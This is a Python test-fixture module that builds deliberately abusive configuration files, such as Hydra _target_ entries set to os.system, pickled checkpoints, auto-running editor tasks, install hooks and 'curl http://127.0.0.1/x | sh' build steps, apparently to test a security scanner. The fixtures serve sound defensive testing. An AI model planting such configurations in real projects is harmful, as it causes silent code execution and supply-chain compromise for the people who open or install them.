"""Configurations that make a program other than transformers import, run or fetch something.

None of these programs is part of the test environment: each file is written as the program's documentation or source
has it, and so counts as an abuse that is not executed here.
"""

from __future__ import annotations

import json
import pickle
from typing import Any

from .archives_torch import torch_zip
from .sample import ABUSES, Kit, Maker, Sample


def samples() -> list[Sample]:
    """All of this module."""
    return [*_targets(), *_modules(), *_commands(), *_elsewhere()]


def _abuse(path: str, technique: str, made: Maker | Any, calls: tuple[str, ...], **options: Any) -> Sample:
    make = made if callable(made) else (lambda _: made.encode() if isinstance(made, str) else json.dumps(made).encode())
    return Sample(f"configuration/{path}", technique, ABUSES, make, calls=calls, **options)


def _targets() -> list[Sample]:
    """Callables by name."""
    return [
        _abuse("hydra/config.yaml", "hydra.utils.instantiate of a shell", "m:\n  _target_: os.system\n", ("os.system",), reference="CVE-2025-23304"),
        _abuse("hydra-json/config.json", "the same in JSON", {"m": {"_target_": "builtins.exec", "_args_": ["1"]}}, ("builtins.exec",), reference="CVE-2026-22584"),
        _abuse("hydra-toml/config.toml", "the same in TOML", '[m]\n_target_ = "os.system"\n', ("os.system",)),
        _abuse("hydra-escaped-key/config.yaml", "the key is written with an escape", 'm:\n  "_tar\\x67et_": os.system\n', ("os.system",)),
        _abuse("hydra-folded/config.yaml", "the value is a folded scalar", "m:\n  _target_: >-\n    os.system\n", ("os.system",)),
        _abuse("hydra-alias/config.yaml", "key and value through anchors", "a: &x os.system\nm: &m\n  _target_: *x\nn: *m\n", ("os.system",)),
        _abuse("hydra-interpolated/config.yaml", "the name is put together", "a: os\nm:\n  _target_: ${a}.system\n", ("${a}.system",)),
        _abuse("hydra-get-method/config.yaml", "Hydra's own function that imports", "m:\n  _target_: hydra.utils.get_method\n  path: os.system\n", ("hydra.utils.get_method",)),
        _abuse("hydra-pretrained/config.json", "a framework's function that loads another model",
               {"m": {"_target_": "transformers.pipeline", "model": "someone/else"}}, ("transformers.pipeline",)),
        _abuse("hydra-second-document/config.yaml", "in the second document", "a: 1\n---\nm:\n  _target_: os.system\n", ("os.system",)),
        _abuse("flextok/model.safetensors", "a target in the metadata of safetensors", _flextok, ("os.system",)),
        _abuse("lightning-cli/config.yaml", "class_path of jsonargparse", "trainer:\n  callbacks:\n  - class_path: os.system\n", ("os.system",)),
        _abuse("lightning-hparams/hparams.yaml", "_instantiator", "_instantiator: os.system\n", ("os.system",)),
        *(_abuse(f"lightning-protocol-{n}/model.ckpt", f"_instantiator among the hyper-parameters of a checkpoint, protocol {n}",
                 lambda _, n=n: torch_zip(pickle.dumps(_CHECKPOINT, n)), ("os.system",)) for n in (0, 2, 4)),
        _abuse("rasa/config.yml", "a Rasa component by module path", "pipeline:\n- name: evil_module.Component\n", ("evil_module.Component",)),
        _abuse("rasa-store/endpoints.yml", "a Rasa store by module path", "tracker_store:\n  type: evil.Store\n", ("evil.Store",)),
        _abuse("rasa-channel/credentials.yml", "a Rasa channel by module path", "evil.Channel:\n  token: x\n", ("evil.Channel",)),
        _abuse("rasa-model/metadata.json", "a node of a Rasa model",
               {"predict_schema": {"nodes": {"x": {"uses": "os", "constructor_name": "system", "fn": "x"}}}}, ("os.system",)),
        _abuse("allennlp/config.json", "a dotted type is imported", {"dataset_reader": {"type": "evil.Reader"}, "model": {"type": "x"}}, ("evil.Reader",)),
        _abuse("langchain/chain.json", "a serialized constructor outside LangChain",
               {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}, ("os.system",)),
        _abuse("langchain-tool/chain.json", "a chain that runs Python", {"_type": "pal_chain"}, ("pal_chain",)),
        _abuse("langchain-jinja/prompt.json", "a prompt that is a Jinja template",
               {"_type": "prompt", "template_format": "jinja2", "template": "{{ ''.__class__.__mro__ }}"}, ("__mro__",)),
        _abuse("yolo/yolo.yaml", "a model definition whose strings are evaluated", "act: __import__('os').system('x')\n", ("__import__",)),
    ]  # fmt: skip


_CHECKPOINT = {"hyper_parameters": {"_instantiator": "os.system", "x": 1}, "state_dict": {}}


def _flextok(_: Kit) -> bytes:
    metadata = {"config": "{'_target_': 'os.system'}"}
    header = json.dumps(
        {"__metadata__": metadata, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    ).encode()
    return len(header).to_bytes(8, "little") + header + bytes(4)


def _modules() -> list[Sample]:
    """Modules and code of the repository."""
    return [
        _abuse("mlflow/MLmodel", "an MLflow flavour with a loader of its own",
               "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n", ("evil_loader",)),
        _abuse("mlflow-code/MLmodel", "an MLflow model from code",
               "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n", ("model.py",)),
        _abuse("bento/bentofile.yaml", "a BentoML service", "service: 'service:svc'\n", ("service",)),
        _abuse("bento-model/model.yaml", "a BentoML model with a loader of its own", "module: evil_module\nsignatures: {}\n", ("evil_module",)),
        _abuse("spacy/config.cfg", "a callback that the package registers", '[nlp.before_creation]\n@callbacks = "evil.v1"\n', ("evil.v1",)),
        _abuse("router/router_config.json", "the class of a route", {"types": {"q": "evil_module.Route"}}, ("evil_module",)),
        _abuse("custom-pipeline/model_index.json", "a community pipeline of another repository",
               {"_class_name": "StableDiffusionPipeline", "custom_pipeline": "someone/else"}, ("someone/else",)),
        _abuse("modular/modular_model_index.json", "a component from another library",
               {"unet": [None, None, {"repo": "x/y", "type_hint": ["evil_library", "UNet"]}]}, ("evil_library",)),
        _abuse("kernel-mapping/config.json", "layers replaced by a kernel repository",
               {"kernel_config": {"kernel_mapping": {"RMSNorm": "someone/kernels:Norm"}}}, ("someone/kernels",)),
        _abuse("fairseq/args.yaml", "a user directory is imported", "common:\n  user_dir: /tmp/evil\n", ("/tmp/evil",)),
        _abuse("mmengine/config.json", "modules to import", {"custom_imports": {"imports": ["evil"]}}, ("evil",)),
        _abuse("triton-python/config.pbtxt", "a Triton model whose code is Python", 'backend: "py" \'thon\'\n', ("model.py",),
               extra={"1/model.py": lambda k: f"import os\nos.system({k.shell!r})\n".encode()}),
        _abuse("triton-environment/config.pbtxt", "an interpreter that the model brings along",
               'parameters: [{key: "EXECUTION_ENV_PATH", value: {string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz"}}]\n',
               ("env.tar.gz",)),
        _abuse("triton-operations/config.pbtxt", "native operations that the server loads",
               'platform: "tensorflow_savedmodel"\nmodel_operations { op_library_filename: ["evil.so"] }\n', ("evil.so",)),
        _abuse("triton-backend/config.pbtxt", "a back end in the model's own folder", "backend: 'evil'\n", ("libtriton_evil.so", "evil")),
        _abuse("torchserve/config.properties", "an agent for the virtual machine",
               "vmargs=-Xmx1g \\\n  -javaagent:/tmp/evil.jar\n", ("evil.jar",)),
        _abuse("torchserve-open/config.properties", "anybody may register archives", "allowed_ur\\u006cs: .*\n", ("allowed_urls",),
               reference="CVE-2023-43654"),
        _abuse("generate/generation_config.json", "decoding code of another repository", {"custom_generate": "someone/else"}, ("someone/else",)),
        _abuse("generate-card/README.md", "a card that tells to run it",
               "# x\n```python\nmodel.generate(custom_generate='someone/else', trust_remote_code=True)\n```\n", ("someone/else",)),
        _abuse("build/pyproject.toml", "a build back end in the repository",
               '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n', ("evil",)),
    ]  # fmt: skip


def _commands() -> list[Sample]:
    """Commands that run by themselves."""

    def touch(kit: Kit, shape: str) -> bytes:
        return shape.replace("COMMAND", kit.shell).encode()

    return [
        _abuse("editor/.vscode/tasks.json", "a task on opening the folder", lambda k: touch(k,
               '{"tasks": [{"command": "COMMAND", "runOptions": {"runOn": "folderOpen"}}]}'), ("touch",)),
        _abuse("container/.devcontainer/devcontainer.json", "a command of a development container", lambda k: touch(k, '{"postCreateCommand": "COMMAND"}'), ("touch",)),
        _abuse("hooks/settings.json", "a hook of an editor's session", lambda k: touch(k,
               '{"hooks": {"Start": [{"hooks": [{"type": "command", "command": "COMMAND"}]}]}}'), ("touch",)),
        _abuse("servers/mcp.json", "a tool server", lambda k: touch(k, '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "COMMAND"]}}}'), ("touch",)),
        _abuse("npm/package.json", "an install script", lambda k: touch(k, '{"scripts": {"postinstall": "COMMAND"}}'), ("touch",)),
        _abuse("pre-commit/.pre-commit-config.yaml", "a local hook", lambda k: touch(k,
               "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: COMMAND\n    language: system\n"), ("touch",)),
        _abuse("cog/cog.yaml", "a build step that pipes into a shell", "build:\n  run:\n  - curl http://127.0.0.1/x | sh\n", ("curl",)),
        _abuse("workflow/.github/workflows/x.yml", "a pipeline step that pipes into a shell", "on: push\njobs:\n  a:\n    steps:\n    - run: curl http://127.0.0.1/x | sh\n", ("curl",)),
        _abuse("envrc/.envrc", "commands on entering the folder", "curl http://127.0.0.1/x | sh\n", ("curl",)),
    ]  # fmt: skip


def _elsewhere() -> list[Sample]:
    """Files and packages from outside."""
    return [
        _abuse("module-path/modules.json", "a module outside the folder",
               [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}], ("../../x",)),
        _abuse("detectron/config.yaml", "a base configuration outside, pickled weights by URL",
               "_BASE_: ../../x.yaml\nMODEL:\n  WEIGHTS: http://127.0.0.1/x.pkl\n", ("../../x.yaml",)),
        _abuse("langchain-path/prompt.json", "a prompt from outside", {"_type": "prompt", "template_path": "/etc/passwd"}, ("/etc/passwd",)),
        _abuse("conda/conda.yaml", "packages from a foreign index",
               "channels:\n- conda-forge\ndependencies:\n- pip:\n  - --extra-index-url http://127.0.0.1/simple\n  - git+http://127.0.0.1/x.git\n", ("127.0.0.1",)),
    ]  # fmt: skip
